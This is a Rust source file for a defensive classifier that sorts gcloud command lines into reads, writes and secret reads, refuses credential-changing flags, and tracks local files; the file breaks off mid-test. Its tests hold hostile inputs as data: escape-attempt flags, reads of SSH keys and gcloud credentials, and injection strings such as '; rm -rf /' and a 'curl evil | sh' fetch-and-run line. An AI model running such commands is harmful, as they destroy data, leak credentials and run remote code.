//! `gcloud [GLOBAL FLAGS] [alpha|beta|preview] GROUP… COMMAND [POSITIONALS] [FLAGS]`.
//!
//! gcloud parses with Python's argparse (calliope). Each group is a subparser, so only global
//! flags may come before the command (`gcloud config --all list` is an error); command names
//! are case-sensitive; a word starting with `-` is never taken as a flag's value. Cloud SDK
//! turns argparse's prefix matching off, but pinned flags are refused in abbreviated spellings
//! all the same (fail closed), except where the prefix is itself a real gcloud flag
//! (`--config`, `--log`, …).

use super::{Class, Classification, FileArg, Options, Refusal, forbidden_spelling, has_scheme};

/// Global flags that change the account, project, configuration or credentials, read flags
/// from a file, or log credentials (`--log-http`, `--verbosity=debug`).
const PINNED: &[&str] = &[
    "--project",
    "--account",
    "--impersonate-service-account",
    "--configuration",
    "--access-token-file",
    "--billing-project",
    "--flags-file",
    "--log-http",
    "--verbosity",
    "--credential-file-override",
    "--authority-selector",
    "--authorization-token-file",
    "--universe-domain",
];

/// Real gcloud command flags that are prefixes of a pinned flag; gcloud never expands
/// abbreviations, so these are themselves, not `--configuration`, `--log-http`, ….
const REAL_PREFIXES: &[&str] = &[
    "--config",
    "--log",
    "--flags",
    "--credential",
    "--auth",
    "--access-token",
];

/// Global flags that take a value (so the next word is not a command word).
const GLOBAL_VALUED: &[&str] = &[
    "--format",
    "--flatten",
    "--trace-token",
    "--http-timeout",
    "--project",
    "--account",
    "--impersonate-service-account",
    "--configuration",
    "--access-token-file",
    "--billing-project",
    "--flags-file",
    "--verbosity",
    "--credential-file-override",
    "--authority-selector",
    "--authorization-token-file",
    "--universe-domain",
];

/// Global flags without a value.
const GLOBAL_SWITCHES: &[&str] = &[
    "--quiet",
    "-q",
    "--help",
    "-h",
    "--version",
    "-v",
    "--user-output-enabled",
    "--no-user-output-enabled",
    "--log-http",
    "--no-log-http",
];

/// Common command flags that take a value; only used to tell operands from flag values.
const COMMON_VALUED: &[&str] = &[
    "--filter",
    "--limit",
    "--page-size",
    "--sort-by",
    "--zone",
    "--region",
    "--location",
    "--content-type",
    "--cache-control",
    "--storage-class",
    "--destination",
    "--source",
    "--config",
    "--description",
    "--labels",
    "--member",
    "--role",
    "--iam-account",
    "--secret",
    "--command",
    "--tag",
    "--substitutions",
];

/// Release tracks: skipped when finding the command, kept in the words.
const TRACKS: &[&str] = &["alpha", "beta", "preview"];

/// Commands right under `gcloud` that only print something.
const TOP_READS: &[&str] = &["version", "info", "help", "topic", "cheat-sheet"];

/// Commands right under `gcloud` that change local setup.
const TOP_WRITES: &[&str] = &["init", "docker"];

/// Commands right under `gcloud` that fathom has no class for.
const TOP_OTHER: &[&str] = &["feedback", "survey", "interactive"];

/// Commands that print secrets or mint credentials, whatever group they are in.
const SECRET_VERBS: &[&str] = &[
    "print-access-token",
    "print-identity-token",
    "print-refresh-token",
    "config-helper",
    "access",
    "generate-login-token",
    "sign-blob",
    "sign-jwt",
    "decrypt",
    "asymmetric-decrypt",
    "raw-decrypt",
    "get-auth-string",
    "get-key-string",
    "sign-url",
    "token",
    "fetch-read-token",
    "fetch-read-write-token",
    "print-settings",
    "connection-string",
];

/// Read-looking commands that change something.
const WRITE_EXCEPTIONS: &[&str] = &["get-credentials"];

/// Commands that only read.
const READ_VERBS: &[&str] = &[
    "list",
    "describe",
    "get",
    "read",
    "search",
    "tail",
    "ls",
    "cat",
    "du",
    "hash",
    "wait",
    "test-iam-permissions",
    "print-iam-policy",
    "analyze-iam-policy",
    "tail-serial-port-output",
];

/// Prefixes of commands that only read (`list-grantable-roles`, `get-iam-policy`, …).
const READ_PREFIXES: &[&str] = &["list-", "describe-", "get-", "search-"];

/// Commands (and, followed by `-`, command prefixes) that change something.
const WRITE_VERBS: &[&str] = &[
    "create",
    "delete",
    "update",
    "set",
    "unset",
    "add",
    "remove",
    "deploy",
    "import",
    "export",
    "start",
    "stop",
    "restart",
    "reset",
    "resize",
    "ssh",
    "scp",
    "submit",
    "run",
    "execute",
    "cancel",
    "enable",
    "disable",
    "activate",
    "deactivate",
    "login",
    "logout",
    "revoke",
    "patch",
    "replace",
    "move",
    "copy",
    "cp",
    "mv",
    "rm",
    "rsync",
    "clone",
    "publish",
    "pull",
    "ack",
    "seek",
    "attach",
    "detach",
    "apply",
    "rollback",
    "upgrade",
    "install",
    "reinstall",
    "promote",
    "undelete",
    "restore",
    "rename",
    "approve",
    "reject",
    "deny",
    "suspend",
    "resume",
    "pause",
    "unpause",
    "abandon",
    "retry",
    "rerun",
    "trigger",
    "invoke",
    "call",
    "send",
    "sign",
    "encrypt",
    "generate",
    "rotate",
    "refresh",
    "sync",
    "purge",
    "destroy",
    "acquire",
    "release",
    "register",
    "unregister",
    "deregister",
    "reconnect",
    "connect",
    "disconnect",
    "failover",
    "switchover",
    "migrate",
    "convert",
    "recreate",
    "rebuild",
    "repair",
    "reboot",
    "recover",
    "configure",
    "bind",
    "unbind",
    "link",
    "unlink",
    "assign",
    "unassign",
    "grant",
    "accept",
    "claim",
    "commit",
    "schedule",
    "upload",
    "download",
    "put",
    "modify",
    "mark",
    "clear",
    "snapshot",
    "backup",
    "fork",
    "merge",
    "split",
    "tag",
    "untag",
    "enroll",
    "unenroll",
    "provision",
    "deprovision",
    "allocate",
    "archive",
    "unarchive",
    "lock",
    "unlock",
    "truncate",
    "flush",
    "drain",
    "scale",
    "evict",
    "kill",
    "terminate",
    "halt",
    "finalize",
    "complete",
    "close",
    "open",
    "demote",
    "replicate",
    "override",
    "exchange",
    "redeem",
    "ingest",
    "transfer",
    "relocate",
    "adopt",
    "abort",
    "undeploy",
    "redeploy",
    "uninstall",
    "edit",
    "insert",
    "write",
];

/// Other gcloud command names (version 528) fathom has no class for: recognised as the command
/// so that a positional named `list` after them is not taken for one, and counted as writes.
const OTHER_VERBS: &[&str] = &[
    "acknowledge",
    "advance",
    "allow",
    "authorize",
    "auto-remediate",
    "browse",
    "build",
    "bulk-delete",
    "bulk-export",
    "bulk-mute",
    "change-quorum",
    "clean-up",
    "cleanup",
    "config-ssh",
    "deauthorize",
    "deidentify",
    "deprecate",
    "diff",
    "direct-predict",
    "direct-raw-predict",
    "discover",
    "dismiss",
    "drop",
    "enforce",
    "enforce-all",
    "env-init",
    "env-unset",
    "establish-peering",
    "evaluate",
    "evaluate-and-sign",
    "evaluate-user-consents",
    "expand-ip-range",
    "extend-schema",
    "extract",
    "fetch-database-properties",
    "fetch-for-apply",
    "fetch-for-resource-type",
    "fetch-source-objects",
    "fetch-static-ips",
    "find-unregistered",
    "gen-config",
    "gen-repo-info-file",
    "gen1-to-gen2",
    "ignore-job",
    "inherit",
    "initiate-push-transfer",
    "inject-fault",
    "inspect",
    "instantiate",
    "instantiate-from-file",
    "invalidate",
    "invalidate-cache",
    "invalidate-cdn-cache",
    "is-upgradeable",
    "lease",
    "lint-condition",
    "load",
    "load-vex",
    "local-run",
    "mac-sign",
    "mac-verify",
    "monitor",
    "mutate-deployed-index",
    "parse",
    "perform-maintenance",
    "perform-storage-shrink",
    "point-in-time-restore",
    "predict",
    "raw-encrypt",
    "raw-predict",
    "recognize",
    "recognize-long-running",
    "redact",
    "reencrypt",
    "regen",
    "render",
    "render-markdown",
    "renew-domain",
    "renew-lease",
    "reorder",
    "replay-recent-access",
    "report",
    "report-host-as-faulty",
    "request-delete",
    "reschedule-maintenance",
    "resolve",
    "reverse",
    "revert",
    "save",
    "scan",
    "seed",
    "setup",
    "simulate-maintenance-event",
    "star",
    "status",
    "stream-logs",
    "subscribe",
    "switch",
    "test-ip",
    "train",
    "translate-text",
    "batch-translate-text",
    "classify-text",
    "transcribe-speech",
    "troubleshoot",
    "undeploy-index",
    "undeploy-model",
    "unmanage",
    "unstar",
    "up",
    "upsert-datapoints",
    "vet",
    "wait-for-replication-catchup",
    "wait-last",
    "wait-until",
    "wait-until-stable",
    "watch",
    "withdraw",
    "asymmetric-sign",
    "lint",
];

/// Groups whose names start like a command (`backup-plans`, `patch-jobs`): still groups.
const VERB_LIKE_GROUPS: &[&str] = &[
    "add-job",
    "backup-channels",
    "backup-collections",
    "backup-plan-associations",
    "backup-plan-bindings",
    "backup-plan-revisions",
    "backup-plans",
    "backup-policies",
    "backup-restore",
    "backup-schedules",
    "backup-vaults",
    "connect-clusters",
    "deploy-policies",
    "import-jobs",
    "migrate-config",
    "patch-deployments",
    "patch-jobs",
    "release-channel-settings",
    "resize-requests",
    "restore-channels",
    "restore-plan-bindings",
    "restore-plans",
    "snapshot-groups",
    "snapshot-schedule-policies",
    "snapshot-settings",
    "ssh-keys",
    "tag-templates",
];

/// Prefixes of other gcloud command families fathom has no class for.
const OTHER_PREFIXES: &[&str] = &["detect-", "stream-", "sanitize-"];

/// A command's class, whether fathom knows it, and why.
type Verdict = (Class, bool, &'static str);

/// Classifies a `gcloud` command line (the words after `gcloud`).
pub fn classify(args: &[String], opts: &Options) -> Result<Classification, Refusal> {
    // `gcloud help -- TERMS` searches the help text: the terms are not flags.
    let help_search = args
        .iter()
        .map(String::as_str)
        .find(|a| !looks_like_flag(a) && !TRACKS.contains(a))
        == Some("help");
    let dash = args.iter().position(|a| a == "--").unwrap_or(args.len());
    for (i, arg) in args.iter().enumerate() {
        if !(help_search && i > dash) {
            check_pinned(arg, opts)?;
        }
    }
    let mut words: Vec<String> = Vec::new();
    let mut verdict: Option<Verdict> = None;
    let mut early_flag: Option<&str> = None;
    let mut help = false;
    let mut version = false;
    let mut operands: Vec<&str> = Vec::new();
    let mut values: Vec<(&str, &str)> = Vec::new();
    let mut dashed = false;
    let mut i = 0;
    while i < args.len() {
        let arg = args[i].as_str();
        i += 1;
        if !dashed && arg == "--" {
            dashed = true;
            continue;
        }
        if dashed || !looks_like_flag(arg) {
            if verdict.is_none() {
                words.push(arg.to_string());
                verdict = command_verdict(&words);
            } else {
                operands.push(arg);
            }
            continue;
        }
        let (name, inline) = match arg.split_once('=') {
            Some((n, v)) if arg.starts_with("--") => (n, Some(v)),
            _ => (arg, None),
        };
        help |= matches!(name, "--help" | "-h");
        version |= verdict.is_none() && matches!(name, "--version" | "-v");
        let global = GLOBAL_VALUED.contains(&name) || GLOBAL_SWITCHES.contains(&name);
        if verdict.is_none() && !global {
            early_flag.get_or_insert(arg);
        }
        let takes_value = GLOBAL_VALUED.contains(&name)
            || (verdict.is_some()
                && (COMMON_VALUED.contains(&name) || file_flag(name, "").is_some()));
        let value = match inline {
            Some(v) => Some(v),
            None if takes_value => match args.get(i) {
                Some(next) if !looks_like_flag(next) => {
                    i += 1;
                    Some(next.as_str())
                }
                _ => None,
            },
            None => None,
        };
        if let Some(v) = value {
            values.push((name, v));
        }
    }
    let base = usize::from(words.first().is_some_and(|w| TRACKS.contains(&w.as_str())));
    let verb = words.last().map(String::as_str).unwrap_or_default();
    let mut files = Vec::new();
    for (name, value) in &values {
        if let Some(write) = file_flag(name, verb) {
            for path in flag_paths(name, value) {
                local_file(&mut files, path, write)?;
            }
        }
    }
    if verdict.is_some() {
        operand_files(words.get(base..).unwrap_or_default(), &operands, &mut files)?;
    }
    if help {
        return Ok(done(words, (Class::Read, false, "prints help"), files));
    }
    if words.is_empty() {
        if version {
            return Ok(done(
                vec!["--version".into()],
                (Class::Read, false, "prints the version"),
                files,
            ));
        }
        return Err(Refusal::new(
            args.first().map_or("", String::as_str),
            "no gcloud command named (expected `gcloud GROUP … COMMAND`)",
        ));
    }
    if let Some(flag) = early_flag {
        return Err(Refusal::new(
            flag,
            "gcloud takes only global flags before the command; put command flags after it",
        ));
    }
    let verdict = verdict.unwrap_or((
        Class::Write,
        true,
        "no gcloud command fathom knows; counted as a write",
    ));
    Ok(done(words, verdict, files))
}

/// Builds a verdict.
fn done(words: Vec<String>, (class, unknown, why): Verdict, files: Vec<FileArg>) -> Classification {
    super::verdict(words, class, unknown, why, files)
}

/// Whether argparse reads the word as a flag (not `-`, not a negative number like `-5`).
fn looks_like_flag(word: &str) -> bool {
    let Some(rest) = word.strip_prefix('-') else {
        return false;
    };
    let negative_number = rest.bytes().any(|b| b.is_ascii_digit())
        && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        && rest.bytes().filter(|&b| b == b'.').count() <= 1;
    !rest.is_empty() && !negative_number
}

/// Refuses any spelling of a pinned flag, and calliope's internal `---flag-file-line-` flag.
fn check_pinned(arg: &str, opts: &Options) -> Result<(), Refusal> {
    if !arg.starts_with("--") || arg == "--" {
        return Ok(());
    }
    if arg.starts_with("---") {
        return Err(Refusal::new(
            arg,
            "gcloud's internal `---` flags are refused",
        ));
    }
    let name = arg.split('=').next().unwrap_or(arg);
    if REAL_PREFIXES.contains(&name) {
        return Ok(());
    }
    match forbidden_spelling(name, PINNED, true, opts) {
        Some(flag @ ("--log-http" | "--verbosity")) => Err(Refusal::new(
            arg,
            format!("`{flag}` logs requests with their credentials; refused"),
        )),
        Some("--flags-file") => Err(Refusal::new(
            arg,
            "`--flags-file` reads flags from a file, pinned ones included; refused",
        )),
        Some(flag) => Err(Refusal::new(
            arg,
            format!(
                "`{flag}` would change the integration's pinned account, project or credentials"
            ),
        )),
        None => Ok(()),
    }
}

/// The class of the command whose last word is the newest in `words`, or `None` while the
/// words are still groups.
fn command_verdict(words: &[String]) -> Option<Verdict> {
    let base = usize::from(TRACKS.contains(&words[0].as_str()));
    let rel = words.get(base..).unwrap_or_default();
    if rel
        .last()
        .is_some_and(|w| w.bytes().any(|b| b.is_ascii_uppercase()))
    {
        return Some((
            Class::Write,
            true,
            "gcloud command names are lower-case; counted as a write",
        ));
    }
    let (word, prev) = match rel {
        [] => return None,
        [top] => {
            let top = top.as_str();
            return if TOP_READS.contains(&top) {
                Some((Class::Read, false, "only prints information"))
            } else if TOP_WRITES.contains(&top) {
                Some((Class::Write, false, "changes local gcloud or docker setup"))
            } else if TOP_OTHER.contains(&top) {
                Some((
                    Class::Write,
                    true,
                    "a gcloud command fathom has no class for",
                ))
            } else {
                None
            };
        }
        [.., prev, word] => (word.as_str(), prev.as_str()),
    };
    if VERB_LIKE_GROUPS.contains(&word) {
        return None;
    }
    let secret_group = (prev == "credentials" && matches!(word, "describe" | "list"))
        || (prev == "user-workloads-secrets" && word == "describe");
    if SECRET_VERBS.contains(&word) || secret_group {
        return Some((
            Class::SecretRead,
            false,
            "prints secrets or mints credentials",
        ));
    }
    if WRITE_EXCEPTIONS.contains(&word) {
        return Some((Class::Write, false, "writes local credentials (kubeconfig)"));
    }
    if READ_VERBS.contains(&word) || READ_PREFIXES.iter().any(|p| word.starts_with(p)) {
        return Some((Class::Read, false, "a read-only command"));
    }
    let prefixed = |v: &&str| {
        word == *v || (word.starts_with(v) && word.as_bytes().get(v.len()) == Some(&b'-'))
    };
    if WRITE_VERBS.iter().any(prefixed) {
        return Some((Class::Write, false, "a command that changes resources"));
    }
    if OTHER_VERBS.contains(&word) || OTHER_PREFIXES.iter().any(|p| word.starts_with(p)) {
        return Some((
            Class::Write,
            true,
            "a gcloud command fathom has no class for; counted as a write",
        ));
    }
    None
}

/// Whether a flag's value names local files: `Some(true)` written, `Some(false)` read.
/// `verb` is the command name (empty while only the flag's shape is asked about).
fn file_flag(name: &str, verb: &str) -> Option<bool> {
    match name {
        "--plaintext-file" => return Some(verb.contains("decrypt")),
        "--ciphertext-file" => return Some(verb.contains("encrypt") && !verb.contains("decrypt")),
        "--signature-file" => return Some(verb.contains("sign") && !verb.contains("verify")),
        "--destination" => return verb.starts_with("download").then_some(true),
        "--source" | "--config" => return Some(false),
        "--out-file" | "--log-file" | "--output-dir" | "--output-directory" => return Some(true),
        _ => {}
    }
    if name.ends_with("-file") || name.ends_with("-files") {
        return Some(name.contains("output") || name.contains("-out-"));
    }
    let dir = name.ends_with("-dir") || name.ends_with("-directory");
    (dir && name.contains("output")).then_some(true)
}

/// The paths a file flag's value names: `KEY=PATH,…` pairs for `--*-from-file`, comma lists
/// for `--*-files`, else the value itself.
fn flag_paths<'a>(name: &str, value: &'a str) -> Vec<&'a str> {
    if name.ends_with("-from-file") && value.contains('=') {
        return value
            .split(',')
            .map(|pair| pair.split_once('=').map_or(pair, |(_, p)| p))
            .collect();
    }
    if name.ends_with("-files") {
        return value.split(',').collect();
    }
    vec![value]
}

/// Records a path if it is local (not `-`, not a `gs://`-style URL; `file://` is stripped);
/// `~` paths are refused since gcloud expands them to the home directory.
fn local_file(files: &mut Vec<FileArg>, path: &str, write: bool) -> Result<(), Refusal> {
    let path = match path.get(..7) {
        Some(p) if p.eq_ignore_ascii_case("file://") => &path[7..],
        _ => path,
    };
    if path.is_empty() || path == "-" || has_scheme(path) {
        return Ok(());
    }
    if path.starts_with('~') {
        return Err(Refusal::new(
            path,
            "`~` paths name files in the home directory, outside the workspace",
        ));
    }
    files.push(FileArg {
        path: path.to_string(),
        write,
    });
    Ok(())
}

/// Local files named by the operands of the commands that take paths as operands.
fn operand_files(
    words: &[String],
    operands: &[&str],
    files: &mut Vec<FileArg>,
) -> Result<(), Refusal> {
    let w: Vec<&str> = words.iter().map(String::as_str).collect();
    let verb = w.last().copied().unwrap_or_default();
    match w.as_slice() {
        ["storage", .., "cp" | "mv" | "rsync"] => {
            if let Some((dst, srcs)) = operands.split_last() {
                for src in srcs {
                    local_file(files, src, verb == "mv")?;
                }
                local_file(files, dst, true)?;
            }
        }
        ["storage", .., "hash"] | ["app", "deploy"] => {
            for op in operands {
                local_file(files, op, false)?;
            }
        }
        ["builds", "submit"] => {
            if let Some(src) = operands.first() {
                local_file(files, src, false)?;
            }
        }
        [.., "service-accounts", "keys", "create"] => {
            if let Some(out) = operands.first() {
                local_file(files, out, true)?;
            }
        }
        ["source", "repos", "clone"] => {
            if let Some(dir) = operands.get(1).or(operands.first()) {
                local_file(files, dir, true)?;
            }
        }
        [.., "scp"] => {
            if let Some((dst, srcs)) = operands.split_last() {
                for src in srcs {
                    if let Some(p) = scp_local(src) {
                        local_file(files, p, false)?;
                    }
                }
                if let Some(p) = scp_local(dst) {
                    local_file(files, p, true)?;
                }
            }
        }
        _ => {}
    }
    Ok(())
}

/// The local path of an `scp` operand: one without `HOST:` (or with `localhost:`).
fn scp_local(op: &str) -> Option<&str> {
    match op.split_once(':') {
        None => Some(op),
        Some(("localhost", path)) => Some(path),
        Some(_) => None,
    }
}

/// Escape attempts, secret reads, reads, writes and file arguments.
#[cfg(test)]
mod tests {
    use super::*;

    use super::super::testing::argv;

    /// Classifies a line that must be accepted, with default options.
    fn class_of(s: &str) -> Classification {
        classify(&argv(s), &Options::default()).unwrap_or_else(|r| panic!("{s}: refused: {r}"))
    }

    /// Every spelling of every pinned flag is refused, naming the flag.
    #[test]
    fn escapes_are_refused_in_every_spelling() {
        // (command line, flag the reason must name)
        let cases: &[(&str, &str)] = &[
            ("compute instances list --project other", "--project"),
            ("compute instances list --project=other", "--project"),
            ("--project other compute instances list", "--project"),
            ("--project=other compute instances list", "--project"),
            ("compute instances list --proj other", "--project"),
            ("compute instances list --pro=other", "--project"),
            ("compute instances list --p other", "--project"),
            (
                "compute instances list --account eve@example.com",
                "--account",
            ),
            (
                "--account=eve@example.com compute instances list",
                "--account",
            ),
            ("compute instances list --acc eve@example.com", "--account"),
            (
                "compute instances list --impersonate-service-account sa@x",
                "--impersonate-service-account",
            ),
            (
                "compute instances list --impersonate-service-account=sa@x",
                "--impersonate-service-account",
            ),
            (
                "--impersonate-service-account=sa@x compute instances list",
                "--impersonate-service-account",
            ),
            (
                "compute instances list --impersonate=sa@x",
                "--impersonate-service-account",
            ),
            (
                "compute instances list --imp sa@x",
                "--impersonate-service-account",
            ),
            (
                "compute instances list --configuration prod",
                "--configuration",
            ),
            (
                "--configuration=prod compute instances list",
                "--configuration",
            ),
            ("compute instances list --configur prod", "--configuration"),
            (
                "compute instances list --access-token-file /tmp/t",
                "--access-token-file",
            ),
            (
                "compute instances list --access-token-f=/tmp/t",
                "--access-token-file",
            ),
            (
                "compute instances list --billing-project other",
                "--billing-project",
            ),
            (
                "compute instances list --billing-project=other",
                "--billing-project",
            ),
            (
                "compute instances list --billing other",
                "--billing-project",
            ),
            ("compute instances list --flags-file f.yaml", "--flags-file"),
            ("--flags-file=f.yaml compute instances list", "--flags-file"),
            ("compute instances list --flags-f f.yaml", "--flags-file"),
            ("compute instances list --log-http", "--log-http"),
            ("--log-http compute instances list", "--log-http"),
            ("compute instances list --log-h", "--log-http"),
            ("compute instances list --verbosity debug", "--verbosity"),
            ("compute instances list --verbosity=debug", "--verbosity"),
            ("--verbosity=debug compute instances list", "--verbosity"),
            ("compute instances list --verb=debug", "--verbosity"),
            (
                "compute instances list --credential-file-override k.json",
                "--credential-file-override",
            ),
            (
                "compute instances list --credential-file=k.json",
                "--credential-file-override",
            ),
            (
                "compute instances list --authority-selector x",
                "--authority-selector",
            ),
            (
                "compute instances list --authorization-token-file t",
                "--authorization-token-file",
            ),
            (
                "compute instances list --universe-domain evil.example",
                "--universe-domain",
            ),
            (
                "compute instances list --universe=evil.example",
                "--universe-domain",
            ),
            ("compute instances list ---flag-file-line-=x", "---"),
            ("config list -- --project=other", "--project"),
            ("compute instances --zone=z list", "global flags"),
            ("secrets create s --data-file=~/.ssh/id_rsa", "~"),
            ("storage cp ~/.config/gcloud/credentials.db gs://b/", "~"),
        ];
        assert!(cases.len() >= 40);
        super::super::testing::assert_all_refused(classify, cases, &Options::default());
    }

    /// Allowed flags pass, and real flags that prefix a pinned one are not abbreviations.
    #[test]
    fn allowed_flags_and_real_prefixes_pass() {
        let opts = Options {
            allow_flags: vec!["--project".into()],
            ..Options::default()
        };
        let c = classify(&argv("compute instances list --project p"), &opts);
        assert_eq!(c.map(|c| c.class), Ok(Class::Read));
        let c = classify(&argv("compute instances list --proj p"), &opts);
        assert_eq!(c.map(|c| c.class), Ok(Class::Read));
        assert!(classify(&argv("compute instances list --account a"), &opts).is_err());
        let c = class_of("deployment-manager deployments create d --config cfg.yaml");
        assert_eq!(c.class, Class::Write);
        assert_eq!(
            c.files,
            [FileArg {
                path: "cfg.yaml".into(),
                write: false
            }]
        );
        assert_eq!(
            class_of("compute instances list --no-log-http").class,
            Class::Read
        );
    }

    /// Commands that print secrets are `SecretRead`, their harmless neighbours `Read`.
    #[test]
    fn secret_reads() {
        for line in [
            "auth print-access-token",
            "auth print-identity-token --audiences=x",
            "auth application-default print-access-token",
            "auth print-refresh-token",
            "config config-helper --format=json",
            "secrets versions access latest --secret=db",
            "beta secrets versions access 3 --secret db",
            "sql generate-login-token",
            "iam service-accounts sign-jwt in.json out.jwt --iam-account=sa@x",
            "iam service-accounts sign-blob in out --iam-account sa@x",
            "kms decrypt --key k --ciphertext-file c --plaintext-file -",
            "redis instances get-auth-string r --region=r",
            "services api-keys get-key-string k",
            "storage sign-url gs://b/o --duration=1h",
            "container aws clusters print-access-token c",
            "artifacts print-settings npm --repository=r",
            "vmware private-clouds vcenter credentials describe --private-cloud=p",
            "anthos auth token",
        ] {
            assert_eq!(class_of(line).class, Class::SecretRead, "{line}");
        }
    }

    /// Read-only commands, with their command words.
    #[test]
    fn reads() {
        let cases: &[(&str, &[&str])] = &[
            ("compute instances list", &["compute", "instances", "list"]),
            (
                "compute instances list --filter status=RUNNING --limit 5",
                &["compute", "instances", "list"],
            ),
            (
                "--format json compute instances list",
                &["compute", "instances", "list"],
            ),
            (
                "--quiet compute instances describe vm-1 --zone z",
                &["compute", "instances", "describe"],
            ),
            (
                "beta compute instances list",
                &["beta", "compute", "instances", "list"],
            ),
            ("projects get-iam-policy p", &["projects", "get-iam-policy"]),
            ("projects get-ancestors p", &["projects", "get-ancestors"]),
            ("config get-value project", &["config", "get-value"]),
            ("config list", &["config", "list"]),
            (
                "config configurations list",
                &["config", "configurations", "list"],
            ),
            ("auth list", &["auth", "list"]),
            (
                "logging read severity>=ERROR --limit 10",
                &["logging", "read"],
            ),
            (
                "asset search-all-resources --scope=projects/p",
                &["asset", "search-all-resources"],
            ),
            (
                "iam list-grantable-roles //x",
                &["iam", "list-grantable-roles"],
            ),
            ("storage ls gs://b", &["storage", "ls"]),
            ("storage cat gs://b/o", &["storage", "cat"]),
            (
                "container clusters describe c",
                &["container", "clusters", "describe"],
            ),
            (
                "secrets versions describe 1 --secret s",
                &["secrets", "versions", "describe"],
            ),
            ("version", &["version"]),
            ("info", &["info"]),
            ("help compute", &["help"]),
            ("topic flags-file", &["topic"]),
            ("help -- --impersonate-service-account", &["help"]),
            (
                "compute instances delete vm --help",
                &["compute", "instances", "delete"],
            ),
            ("quotas info describe x", &["quotas", "info", "describe"]),
            (
                "backup-dr backup-plans list --location l",
                &["backup-dr", "backup-plans", "list"],
            ),
        ];
        for (line, words) in cases {
            let c = class_of(line);
            assert_eq!(c.class, Class::Read, "{line}: {}", c.why);
            assert_eq!(c.words, *words, "{line}");
            assert!(!c.unknown, "{line}");
        }
        assert_eq!(class_of("--version").class, Class::Read);
    }

    /// Commands that change something, with their command words; unknown ones count as writes.
    #[test]
    fn writes() {
        let cases: &[(&str, &[&str])] = &[
            (
                "compute instances create vm --zone z",
                &["compute", "instances", "create"],
            ),
            (
                "compute os-config patch-jobs execute --file p.json",
                &["compute", "os-config", "patch-jobs", "execute"],
            ),
            (
                "compute instances delete vm -q",
                &["compute", "instances", "delete"],
            ),
            (
                "compute instances add-metadata vm --metadata a=b",
                &["compute", "instances", "add-metadata"],
            ),
            ("compute ssh vm --command uptime", &["compute", "ssh"]),
            (
                "projects add-iam-policy-binding p --member=user:x --role=r",
                &["projects", "add-iam-policy-binding"],
            ),
            ("config set project other", &["config", "set"]),
            ("config unset project", &["config", "unset"]),
            (
                "config configurations activate prod",
                &["config", "configurations", "activate"],
            ),
            ("auth login", &["auth", "login"]),
            (
                "auth activate-service-account --key-file k.json",
                &["auth", "activate-service-account"],
            ),
            ("auth revoke", &["auth", "revoke"]),
            (
                "auth application-default login",
                &["auth", "application-default", "login"],
            ),
            (
                "container clusters get-credentials c --region r",
                &["container", "clusters", "get-credentials"],
            ),
            (
                "iam service-accounts keys create k.json --iam-account sa@x",
                &["iam", "service-accounts", "keys", "create"],
            ),
            ("run deploy svc --source .", &["run", "deploy"]),
            ("storage cp gs://b/o ./o", &["storage", "cp"]),
            (
                "pubsub subscriptions pull s",
                &["pubsub", "subscriptions", "pull"],
            ),
            ("sql import sql inst gs://b/dump.sql", &["sql", "import"]),
            ("components install kubectl", &["components", "install"]),
            ("init", &["init"]),
            (
                "alpha compute instances update vm",
                &["alpha", "compute", "instances", "update"],
            ),
        ];
        for (line, words) in cases {
            let c = class_of(line);
            assert_eq!(c.class, Class::Write, "{line}: {}", c.why);
            assert_eq!(c.words, *words, "{line}");
            assert!(!c.unknown, "{line}");
        }
        for line in [
            "compute instances frobnicate vm",
            "compute instances",
            "compute instances simulate-maintenance-event list",
            "feedback",
            "COMPUTE instances list",
        ] {
            let c = class_of(line);
            assert_eq!((c.class, c.unknown), (Class::Write, true), "{line}");
        }
        assert_eq!(
            class_of("compute instances simulate-maintenance-event list").words,
            ["compute", "instances", "simulate-maintenance-event"]
        );
        assert!(classify(&argv("--quiet"), &Options::default()).is_err());
    }

    /// Local files named by flags and operands, with their direction.
    #[test]
    fn file_arguments() {
        let read = |p: &str| FileArg {
            path: p.into(),
            write: false,
        };
        let write = |p: &str| FileArg {
            path: p.into(),
            write: true,
        };
        let cases: &[(&str, Vec<FileArg>)] = &[
            ("storage cp gs://b/o ./local/o", vec![write("./local/o")]),
            ("storage cp ./a.txt gs://b/", vec![read("./a.txt")]),
            ("storage cp -r dir gs://b/", vec![read("dir")]),
            ("storage mv ./a.txt gs://b/", vec![write("./a.txt")]),
            ("storage rsync gs://b/dir file://out", vec![write("out")]),
            ("storage cp - gs://b/o", vec![]),
            ("storage hash a.bin", vec![read("a.bin")]),
            (
                "secrets versions access latest --secret s --out-file=s.bin",
                vec![write("s.bin")],
            ),
            (
                "secrets create s --data-file data.txt",
                vec![read("data.txt")],
            ),
            ("secrets create s --data-file -", vec![]),
            (
                "compute instances create vm --metadata-from-file startup-script=boot.sh,ssh-keys=keys.txt",
                vec![read("boot.sh"), read("keys.txt")],
            ),
            (
                "auth activate-service-account --key-file=k.json",
                vec![read("k.json")],
            ),
            ("functions deploy f --source ./src", vec![read("./src")]),
            ("functions deploy f --source gs://b/src.zip", vec![]),
            ("run deploy svc --source=.", vec![read(".")]),
            (
                "builds submit ./app --config cloudbuild.yaml",
                vec![read("cloudbuild.yaml"), read("./app")],
            ),
            (
                "app deploy app.yaml cron.yaml",
                vec![read("app.yaml"), read("cron.yaml")],
            ),
            (
                "iam service-accounts keys create key.json --iam-account sa@x",
                vec![write("key.json")],
            ),
            ("source repos clone repo ./dir", vec![write("./dir")]),
            ("compute scp vm:/var/log/x ./x --zone z", vec![write("./x")]),
            ("compute scp ./x vm:/tmp/x", vec![read("./x")]),
            (
                "kms decrypt --key k --ciphertext-file c.enc --plaintext-file p.txt",
                vec![read("c.enc"), write("p.txt")],
            ),
            (
                "kms encrypt --key k --plaintext-file p.txt --ciphertext-file c.enc",
                vec![read("p.txt"), write("c.enc")],
            ),
            (
                "artifacts generic download --destination=out --package=p",
                vec![write("out")],
            ),
        ];
        for (line, files) in cases {
            assert_eq!(class_of(line).files, *files, "{line}");
        }
    }

    /// Shell syntax in arguments is inert data (no shell runs), so it is not refused.
    #[test]
    fn shell_metacharacters_are_plain_values() {
        let args: Vec<String> = [
            "compute",
            "instances",
            "list",
            "--filter",
            "$(touch /tmp/pwned)",
            "--format",
            "; rm -rf /",
        ]
        .map(String::from)
        .to_vec();
        let c = classify(&args, &Options::default()).unwrap_or_else(|r| panic!("refused: {r}"));
        assert_eq!((c.class, c.words.len()), (Class::Read, 3));
        let args: Vec<String> = ["compute", "instances", "describe", "`id` && curl evil | sh"]
            .map(String::from)
            .to_vec();
